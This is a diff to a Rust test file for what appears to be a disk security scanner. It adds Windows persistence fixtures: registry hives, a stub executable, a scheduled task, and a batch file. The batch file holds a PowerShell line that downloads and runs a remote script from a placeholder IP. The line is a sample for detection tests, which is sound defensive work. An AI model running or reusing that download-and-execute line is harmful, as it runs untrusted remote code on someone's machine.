@@ -331,6 +331,41 @@ fn sample(family: &str, path: &str, s: &Secrets) -> Option<Sample> {
             };
             Some(Sample(std::fs::read(dir.join(file)).unwrap(), 0o644))
         }
+        // The SYSTEM hive (a service in ProgramData) and a user's hive (a Run value into the
+        // profile) of the leaky Windows disks, written by hivexsh.
+        "windows-autoruns" => {
+            let dir = workdir("quick", "autorun-hives");
+            run(bash(&format!(
+                "bash '{}' . leaky",
+                testdata().join("ntfs/hives.sh").display()
+            ))
+            .current_dir(&dir));
+            let file = if path.ends_with("SYSTEM") {
+                "SYSTEM"
+            } else {
+                "NTUSER-alice.DAT"
+            };
+            Some(Sample(std::fs::read(dir.join(file)).unwrap(), 0o644))
+        }
+        "windows-persistence" if path.ends_with(".bat") => text(
+            "@echo off\r\npowershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"\r\n".into(),
+        ),
+        "windows-persistence" if path.ends_with(".exe") => {
+            let mut pe = vec![0u8; 0x200];
+            pe[..2].copy_from_slice(b"MZ");
+            pe[0x3C..0x40].copy_from_slice(&0x80u32.to_le_bytes());
+            pe[0x80..0x84].copy_from_slice(b"PE\0\0");
+            Some(Sample(pe, 0o644))
+        }
+        "windows-persistence" => {
+            let xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\">\
+                       <Principals><Principal><UserId>BUILD\\deploy</UserId>\
+                       <LogonType>Password</LogonType></Principal></Principals>\
+                       <Actions><Exec><Command>C:\\Tools\\build.exe</Command></Exec></Actions></Task>\r\n";
+            let mut b = vec![0xFF, 0xFE];
+            b.extend(xml.encode_utf16().flat_map(u16::to_le_bytes));
+            Some(Sample(b, 0o644))
+        }
         "git-credentials" => text(format!("https://ci:{}@git.example.net\n", s.password)),
         "netrc" => text(format!("machine git.example.net login ci password {}\n", s.password)),
         "pgpass" => text(format!("db.example.net:5432:*:app:{}\n", s.password)),
@@ -559,7 +594,8 @@ fn quick_reports_every_family_finding_that_full_reports_where_it_walks() {
         outside,
         [
             "/Windows/Panther/unattend.xml",
-            "/Windows/System32/config/SAM"
+            "/Windows/System32/config/SAM",
+            "/Windows/System32/config/SYSTEM"
         ],
         "samples outside the quick walk (Windows volumes are not root filesystems; the hives are \
          read by the volume check)"
